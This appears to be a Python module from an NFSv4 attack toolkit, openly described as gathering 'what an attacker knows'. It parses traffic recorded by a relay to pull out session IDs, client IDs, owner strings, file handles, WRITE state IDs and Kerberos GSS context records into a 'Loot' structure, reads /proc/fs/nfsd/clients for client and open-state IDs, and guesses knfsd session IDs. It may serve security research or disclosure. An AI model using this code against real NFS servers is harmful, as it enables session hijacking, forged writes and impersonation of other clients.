"""What an attacker knows of a client that it has listened to: the identifiers in a recording, and those that the server shows to root."""

import glob
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

from nfs4 import rpc

WRITE, PUTFH, SEQUENCE = 38, 22, 53
DATA, INIT, PRIVACY = 0, 1, 3


def messages(stream: bytes, kind: int) -> Iterator[bytes]:
    """messages yields the calls or the replies of a stream, those of the backchannel left out, each a record of one fragment, as the
    kernel sends them; an unfinished one is left out."""
    at = 0
    while at + 4 <= len(stream):
        end = at + 4 + (int.from_bytes(stream[at:at + 4], "big") & 0x7FFFFFFF)
        if end > len(stream):
            return
        if rpc.message_type(stream[at + 4:end]) == kind:
            yield stream[at + 4:end]
        at = end


@dataclass
class Loot:
    """Loot is what was seen first of each kind; empty what was not seen. `writes` has (handle, state id) of WRITEs, by minor version."""
    session: bytes = b""
    client: bytes = b""            # of 4.1 and later
    sequence: int = 0              # that it made its session with
    owner: bytes = b""
    client40: bytes = b""
    confirm40: bytes = b""
    owner40: bytes = b""
    writes: dict[int, tuple[bytes, bytes]] = field(default_factory=dict)
    inits: list[bytes] = field(default_factory=list)   # whole records
    protected: list[bytes] = field(default_factory=list)

    @property
    def gss_handle(self) -> bytes:
        """gss_handle is the handle of the context of the first protected record."""
        reader = rpc.Reader(rpc.parse_call(self.protected[0]).credential)
        reader.take(16)
        return reader.opaque()


def of_recording(prefix: str) -> Loot:
    """of_recording reads what relay.py recorded of a client's calls."""
    loot = Loot()
    for path in sorted(glob.glob(f"{glob.escape(prefix)}-*.calls")):
        for message in messages(Path(path).read_bytes(), rpc.CALL):
            call = rpc.parse_call(message)
            if call.flavor == rpc.Flavor.GSS:
                read_protected(loot, call.credential, message)
            elif (call.program, call.version, call.procedure) == (100003, 4, 1):
                read_compound(loot, rpc.Reader(call.arguments))
    return loot


def read_protected(loot: Loot, credential: bytes, message: bytes) -> None:
    """read_protected keeps what makes a context, and what krb5p protects."""
    procedure, service = int.from_bytes(credential[4:8], "big"), int.from_bytes(credential[12:16], "big")
    if procedure == INIT:
        loot.inits.append(message)
    elif (procedure, service) == (DATA, PRIVACY):
        loot.protected.append(message)


def read_compound(loot: Loot, reader: rpc.Reader) -> None:
    """read_compound takes what it knows from a COMPOUND's first operations, and leaves it at the first that it does not know."""
    reader.opaque()
    minor, count = reader.u32(), reader.u32()
    handle = b""
    for _ in range(count):
        operation = reader.u32()
        if operation == SEQUENCE:
            loot.session = loot.session or reader.data[reader.at:reader.at + 16]
            reader.take(32)
        elif operation == PUTFH:
            handle = reader.opaque()
        elif operation == WRITE:
            loot.writes.setdefault(min(minor, 1), (handle, reader.take(16)))
            return
        else:
            return read_state(loot, operation, reader)


def read_state(loot: Loot, operation: int, reader: rpc.Reader) -> None:
    """read_state takes the identifiers of the operations that make a client."""
    if operation == 42 and not loot.owner:
        reader.take(8)
        loot.owner = reader.opaque()
    elif operation == 43 and not loot.client:
        loot.client, loot.sequence = reader.take(8), reader.u32()
    elif operation == 35 and not loot.owner40:
        reader.take(8)
        loot.owner40 = reader.opaque()
    elif operation == 36 and not loot.client40:
        loot.client40, loot.confirm40 = reader.take(8), reader.take(8)


@dataclass(frozen=True)
class Shown:
    """Shown is what knfsd shows of a client: its own ids, which no gateway has changed."""
    client: bytes
    minor: int
    states: list[bytes]

    def sessions(self) -> Iterator[bytes]:
        """sessions are the ids that knfsd may have given the client's sessions: client id, a counter, zeros."""
        for number in range(1, 64):
            yield self.client + number.to_bytes(4, "little") + bytes(4)


def of_server(address: str) -> list[Shown]:
    """of_server reads /proc/fs/nfsd/clients for the clients from an address."""
    found = []
    for folder in Path("/proc/fs/nfsd/clients").iterdir():
        info = (folder / "info").read_text()
        if re.search(rf'^address: "{re.escape(address)}:', info, re.MULTILINE):
            client = int(re.search(r"^clientid: (0x[0-9a-f]+)", info, re.MULTILINE)[1], 16).to_bytes(8, "little")
            minor = int(re.search(r"^minor version: (\d)", info, re.MULTILINE)[1])
            states = re.findall(r"^- 0x([0-9a-f]{32}):.*type: open", (folder / "states").read_text(), re.MULTILINE)
            found.append(Shown(client, minor, [bytes.fromhex(state) for state in states]))
    return found
